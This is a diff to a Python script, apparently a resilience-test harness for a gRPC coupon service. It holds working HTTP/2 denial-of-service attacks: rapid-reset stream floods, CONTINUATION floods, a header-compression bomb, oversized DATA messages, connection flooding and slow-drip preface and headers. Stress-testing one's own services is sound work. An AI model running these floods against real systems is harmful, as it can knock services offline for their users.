@@ -14,7 +14,7 @@ import time
 import h2
 from h2 import CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame
 
-SECONDS = 3
+SECONDS = 2
 GET_COUPON = "/coupon.v1.CouponAdminService/GetCoupon"
 CREATE_COUPON = "/coupon.v1.CouponAdminService/CreateCoupon"
 WATCH_STATUS = "/coupon.v1.CouponService/WatchStatus"
@@ -129,7 +129,7 @@ def rapid_reset(address):
     cancel = struct.pack(">I", 8)
     return flood(address, streams(
         lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)),
-        "streams opened and reset", seconds=5)
+        "streams opened and reset", seconds=4)
 
 
 def rapid_reset_of_whole_calls(address):
@@ -159,14 +159,14 @@ def continuations(address):
     header = h2.header("x", bytes(16384 - 5).replace(b"\0", b"a"))[:16384]
     opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON))
     return flood(address, again(frame(CONTINUATION, 0, 1, header), at_once=4, first=opened), "CONTINUATION",
-                 bytes_max=300 * MIB, seconds=6)
+                 bytes_max=300 * MIB, seconds=4)
 
 
 def continuations_of_small_headers(address):
     header = h2.header("x", "y") * 2700
     opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON))
     return flood(address, again(frame(CONTINUATION, 0, 1, header), at_once=4, first=opened), "CONTINUATION",
-                 bytes_max=300 * MIB, seconds=6)
+                 bytes_max=300 * MIB, seconds=4)
 
 
 def empty_continuations(address):
@@ -178,7 +178,7 @@ def endless_string(address):
     """A header whose value is said to have 2 GB; they come."""
     opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON) + b"\x00" + h2.string("x") + h2.integer(1 << 31, 7))
     return flood(address, again(frame(CONTINUATION, 0, 1, b"a" * 16384), at_once=4, first=opened), "CONTINUATION",
-                 bytes_max=300 * MIB, seconds=6)
+                 bytes_max=300 * MIB, seconds=4)
 
 
 def indexed_bomb(address):
@@ -186,7 +186,7 @@ def indexed_bomb(address):
     entry = b"\x40" + h2.string("x") + h2.string("a" * 4000)
     block = h2.request_block(GET_COUPON) + entry + b"\xbe" * 12000
     return flood(address, streams(lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block), at_once=4),
-                 "header blocks of 48 MB each", seconds=5)
+                 "header blocks of 48 MB each", seconds=4)
 
 
 def large_message_at_once(address):
@@ -194,7 +194,7 @@ def large_message_at_once(address):
     opened = frame(HEADERS, h2.END_HEADERS, 1, h2.request_block(CREATE_COUPON))
     opened += frame(DATA, 0, 1, h2.message(b"", length=100_000_000))
     return flood(address, again(frame(DATA, 0, 1, bytes(16384)), at_once=4, first=opened), "DATA",
-                 bytes_max=100_000_000, seconds=5)
+                 bytes_max=100_000_000, seconds=4)
 
 
 def large_message(address, count=1):
@@ -297,7 +297,7 @@ def raise_limit():
 def open_many(address, count):
     host, port = address.rsplit(":", 1)
     sockets = []
-    for number in range(count):
+    for _ in range(count):
         try:
             one = socket.create_connection((host, int(port)), 5)
         except OSError as error:
@@ -372,49 +372,29 @@ def come_and_go(address):
 
 # --- as slowly as it goes ---
 
-def drip(address, data, count, seconds):
-    """A byte in 100 ms on each of so many connections."""
-    sockets = open_many(address, count)
-    start = time.monotonic()
-    alive = set(sockets)
-    for at in range(len(data)):
-        if time.monotonic() > start + seconds or not alive:
-            break
-        for one in list(alive):
-            try:
-                one.send(data[at:at + 1])
-            except OSError:
-                alive.discard(one)
-        time.sleep(max(0, start + (at + 1) / 10 - time.monotonic()))
-    left = wait_for_closes(list(alive), time.monotonic() + 0.1)
-    return f"{len(sockets)} connections, {len(left)} open after {time.monotonic() - start:.1f} s"
-
-
-def slow_preface(address):
-    """Longer than the time for the handshake, which no byte extends."""
-    data = PREFACE + h2.settings(s1=4096, s2=0, s3=100, s4=65535, s5=16384, s6=16384) * 3
-    return drip(address, data, 200, 13)
-
-
-def slow_headers(address):
-    block = h2.request_block(GET_COUPON)
-    host, port = address.rsplit(":", 1)
-    opening = len(PREFACE + h2.settings())
-    data = PREFACE + h2.settings() + frame(HEADERS, h2.END_HEADERS, 1, block)
+def drip(address, first, data, seconds):
+    """`first` at once and then a byte in 100 ms, on each of 200 connections."""
     sockets = open_many(address, 200)
-    for one in sockets:
-        one.send(data[:opening])
-    return drip_on(sockets, data[opening:])
-
-
-def drip_on(sockets, data):
     start = time.monotonic()
-    for at in range(min(len(data), 10 * SECONDS)):
+    for at in range(-1, len(data)):
+        if time.monotonic() > start + seconds:
+            break
         for one in sockets:
             try:
-                one.send(data[at:at + 1])
+                one.send(data[at:at + 1] if at >= 0 else first)
             except OSError:
                 pass
         time.sleep(max(0, start + (at + 1) / 10 - time.monotonic()))
     left = wait_for_closes(sockets, time.monotonic() + 0.1)
     return f"{len(sockets)} connections, {len(left)} open after {time.monotonic() - start:.1f} s"
+
+
+def slow_preface(address):
+    """It, and the SETTINGS that belong to it, would take longer than the handshake may: no byte extends that."""
+    return drip(address, b"", PREFACE + frame(SETTINGS, payload=struct.pack(">HI", h2.INITIAL_WINDOW_SIZE, 65535) * 30),
+                12)
+
+
+def slow_headers(address):
+    block = h2.request_block(GET_COUPON)
+    return drip(address, PREFACE + h2.settings(), frame(HEADERS, h2.END_HEADERS, 1, block), SECONDS)
